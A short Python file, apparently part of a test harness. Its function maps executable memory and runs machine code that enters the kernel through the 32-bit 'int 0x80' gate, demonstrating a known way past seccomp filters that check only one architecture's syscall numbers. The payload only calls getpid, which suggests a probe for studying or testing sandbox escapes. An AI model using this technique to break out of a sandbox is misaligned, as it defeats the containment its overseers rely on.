"""Class: machine code. Source: seccomp(2), on architectures. Escape: int 0x80 enters the kernel
with the numbers of another architecture.
"""

import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    libc.mmap.restype = ctypes.c_void_p
    at = libc.mmap(None, 4096, 7, 0x62, -1, 0)
    ctypes.memmove(at, b"\xb8\x14\x00\x00\x00\xcd\x80\xc3", 8)  # getpid of 32 bits
    found = ctypes.CFUNCTYPE(ctypes.c_int)(at)()
    time.sleep(0.4)
    return found
